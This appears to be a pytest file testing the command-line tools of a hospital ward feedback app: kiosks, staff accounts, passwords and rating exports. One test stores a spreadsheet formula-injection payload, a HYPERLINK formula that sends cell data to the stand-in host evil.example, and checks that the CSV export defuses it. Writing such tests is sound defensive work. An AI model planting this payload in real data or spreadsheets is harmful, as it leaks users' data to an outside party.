"""server/cli.py with click's CliRunner, on a data dir with no server running."""

from __future__ import annotations

import csv
import io
import json

import pytest

from server.entry import requested_async_mode
from server.store.atomic import DataDirLock
from server.store.journal import RatingJournal


def test_kiosk_add_json_prints_one_object_with_the_contract_keys(cli_data_dir):
    cli_data_dir("ward", "add", "7b", "--name", "Ward 7B")
    result = cli_data_dir("kiosk", "add", "--ward", "7B", "--label", "Day room", "--json")
    made = json.loads(result.output)
    assert {"kiosk_id", "token", "enroll_url"} <= set(made)
    assert made["enroll_url"].endswith("/kiosk/#enroll=" + made["token"])


def test_kiosk_set_gives_one_tablet_its_own_wording_and_ward_gives_it_back(cli_data_dir):
    cli_data_dir("ward", "add", "7B", "--name", "Ward 7B")
    made = json.loads(cli_data_dir("kiosk", "add", "--ward", "7B", "--json").output)
    own = json.loads(cli_data_dir("kiosk", "set", made["kiosk_id"], "--wording", "children", "--json").output)
    assert own["wording"] == "children" and "token_hash" not in own
    back = cli_data_dir("kiosk", "set", made["kiosk_id"], "--wording", "ward")
    assert back.exit_code == 0 and "as its ward does" in back.output


def test_display_add_json(cli_data_dir):
    cli_data_dir("ward", "add", "7B", "--name", "Ward 7B")
    made = json.loads(cli_data_dir("display", "add", "--ward", "7B", "--json").output)
    assert made["url"].endswith(f"/ward/7B?display={made['token']}")


def test_staff_add_reads_the_password_from_stdin_and_never_prints_it(cli_data_dir):
    cli_data_dir("ward", "add", "7B", "--name", "Ward 7B")
    result = cli_data_dir("staff", "add", "Jo.Bloggs", "--ward", "7B", "--role", "sister", "--json", input="long-enough-pw\n")
    assert json.loads(result.output) == {"username": "jo.bloggs", "wards": ["7B"], "ward": "7B", "role": "sister",
                                         "created_at": json.loads(result.output)["created_at"]}
    assert "long-enough-pw" not in (cli_data_dir.data_dir / "wardpulse.json").read_text()


def test_staff_add_a_matron_covering_several_wards(cli_data_dir):
    for code in ("7A", "7B"):
        cli_data_dir("ward", "add", code, "--name", f"Ward {code}")
    result = cli_data_dir("staff", "add", "mo", "--role", "matron", "--ward", "7b", "--ward", "7A", "--ward", "7B", input="long-enough-pw\n")
    assert result.exit_code == 0 and "Added matron mo on wards 7B, 7A." in result.output  # home ward first, each once
    unknown = cli_data_dir("staff", "add", "bo", "--ward", "7A", "--ward", "9Z", input="long-enough-pw\n")
    assert unknown.exit_code != 0 and "there is no ward 9Z" in unknown.output
    assert "\"bo\"" not in (cli_data_dir.data_dir / "wardpulse.json").read_text()  # nothing half-made


@pytest.mark.parametrize(
    "args, message",
    [
        (["kiosk", "add", "--ward", "9Z"], "there is no ward 9Z"),
        (["ward", "add", "7B", "--name", "Again"], "already exists"),
        (["ward", "add", "bad code", "--name", "x"], "ward code"),
        (["kiosk", "revoke", "k-nothere"], "no kiosk"),
        (["kiosk", "set", "k-nothere", "--wording", "children"], "no kiosk"),
        (["kiosk", "set", "k-nothere", "--wording", "toddlers"], "'toddlers' is not one of"),
        (["export", "--ward", "7B", "--month", "Nov"], "YYYY-MM"),
        (["export", "--ward", "9Z"], "no ward 9Z"),
    ],
)
def test_admin_mistakes_get_a_plain_error_and_exit_code(cli_data_dir, args, message):
    cli_data_dir("ward", "add", "7B", "--name", "Ward 7B")
    result = cli_data_dir(*args)
    assert result.exit_code != 0
    assert message in result.output


def test_short_password_is_refused(cli_data_dir):
    cli_data_dir("ward", "add", "7B", "--name", "Ward 7B")
    result = cli_data_dir("staff", "add", "jo", "--ward", "7B", input="short\n")
    assert result.exit_code == 1 and "8 characters" in result.output


def test_export_csv_and_jsonl_hold_every_rating_with_the_contract_fields(cli_data_dir):
    cli_data_dir("ward", "add", "7B", "--name", "Ward 7B")
    journal = RatingJournal(cli_data_dir.data_dir)
    for i, (score, month) in enumerate([("good", "10"), ("poor", "11"), ("very_good", "11")]):
        fields = {"id": f"00000000-0000-4000-8000-{i:012d}", "score": score, "tapped_at": f"2026-{month}-20T09:00:00.000Z",
                  "comment": "Tea, \"hot\"\nplease" if i == 1 else None, "lang": None, "follow_up": None}
        journal.add(dict(fields, ward="7B", kiosk_id="k-1", channel="kiosk", received_at=fields["tapped_at"], misuse=False), fields)
    journal.close()
    lines = cli_data_dir("export", "--ward", "7B", "--format", "jsonl").output.splitlines()
    assert [json.loads(line)["score"] for line in lines] == ["good", "poor", "very_good"]
    assert {"id", "score", "tapped_at", "received_at", "comment"} <= set(json.loads(lines[0]))
    rows = list(csv.DictReader(io.StringIO(cli_data_dir("export", "--ward", "7b", "--month", "2026-11").output)))
    assert [r["score"] for r in rows] == ["poor", "very_good"]
    assert rows[0]["comment"] == 'Tea, "hot"\nplease'


def test_export_csv_cannot_run_a_formula_and_jsonl_keeps_the_comment_as_stored(cli_data_dir):
    hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    cli_data_dir("ward", "add", "7B", "--name", "Ward 7B")
    journal = RatingJournal(cli_data_dir.data_dir)
    fields = {"id": "00000000-0000-4000-8000-000000000001", "score": "poor", "tapped_at": "2026-11-20T09:00:00.000Z",
              "comment": hyperlink, "lang": None, "follow_up": {"location": "@bed 4"}}
    journal.add(dict(fields, ward="7B", kiosk_id="k-1", channel="kiosk", received_at=fields["tapped_at"], misuse=False), fields)
    journal.close()
    out = cli_data_dir("export", "--ward", "7B").output
    assert ",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"," in out  # quoted, quotes doubled
    [row] = list(csv.DictReader(io.StringIO(out)))
    assert row["comment"] == "'" + hyperlink
    assert row["follow_up"] == '{"location": "@bed 4"}'  # JSON starts with a brace: nothing to run
    assert row["score"] == "poor" and row["misuse"] == "False"
    [line] = cli_data_dir("export", "--ward", "7B", "--format", "jsonl").output.splitlines()
    assert json.loads(line)["comment"] == hyperlink


@pytest.mark.parametrize(
    "argv, mode",
    [
        (["serve"], "eventlet"),
        (["--data-dir", "x", "serve", "--port", "0"], "eventlet"),
        (["serve", "--async-mode", "threading"], "threading"),
        (["serve", "--async-mode=threading"], "threading"),
        (["export", "--ward", "7B"], None),
        (["demo"], None),
    ],
)
def test_entry_point_only_monkey_patches_for_serve(argv, mode):
    assert requested_async_mode(argv) == mode


def test_staff_passwd_and_sign_out_move_the_session_generation_on(cli_data_dir):
    from server.store.registry import Registry

    cli_data_dir("ward", "add", "7B", "--name", "Ward 7B")
    cli_data_dir("staff", "add", "sister", "--ward", "7B", "--role", "sister", input="long-enough-pw\n")
    before = Registry(cli_data_dir.data_dir).staff("sister")
    changed = json.loads(cli_data_dir("staff", "passwd", "Sister", "--json", input="another-long-pw\n").output)
    assert changed == {"username": "sister", "session_generation": 1, "password_changed": True}
    after = Registry(cli_data_dir.data_dir).staff("sister")
    assert after["password_hash"] != before["password_hash"]
    assert "another-long-pw" not in (cli_data_dir.data_dir / "wardpulse.json").read_text()
    ended = cli_data_dir("staff", "sign-out", "sister")
    assert ended.output.strip() == "sister is signed out everywhere."
    assert Registry(cli_data_dir.data_dir).staff("sister")["password_hash"] == after["password_hash"]
    assert Registry(cli_data_dir.data_dir).staff("sister")["session_generation"] == 2


@pytest.mark.parametrize(
    "args, stdin, message",
    [
        (["staff", "passwd", "nobody"], "long-enough-pw\n", "no staff member nobody"),
        (["staff", "passwd", "sister"], "short\n", "at least 8 characters"),
        (["staff", "sign-out", "nobody"], None, "no staff member nobody"),
        (["serve", "--async-mode", "threading", "--trusted-proxies", "-1"], None, "-1 is not in the range x>=0"),
    ],
)
def test_staff_and_proxy_mistakes_get_a_plain_error(cli_data_dir, args, stdin, message):
    cli_data_dir("ward", "add", "7B", "--name", "Ward 7B")
    cli_data_dir("staff", "add", "sister", "--ward", "7B", input="long-enough-pw\n")
    result = cli_data_dir(*args, input=stdin)
    assert result.exit_code != 0
    assert message in result.output


def test_a_mistyped_trusted_proxies_environment_stops_serve_plainly(cli_data_dir, monkeypatch):
    monkeypatch.setenv("WARDPULSE_TRUSTED_PROXIES", "nginx")
    result = cli_data_dir("serve", "--async-mode", "threading", "--port", "0")
    assert result.exit_code == 1
    assert "WARDPULSE_TRUSTED_PROXIES must be a whole number of proxy hops, 0 or more (not 'nginx')" in result.output
    lock = DataDirLock(cli_data_dir.data_dir)
    assert lock.try_acquire()  # the lock was let go
    lock.release()
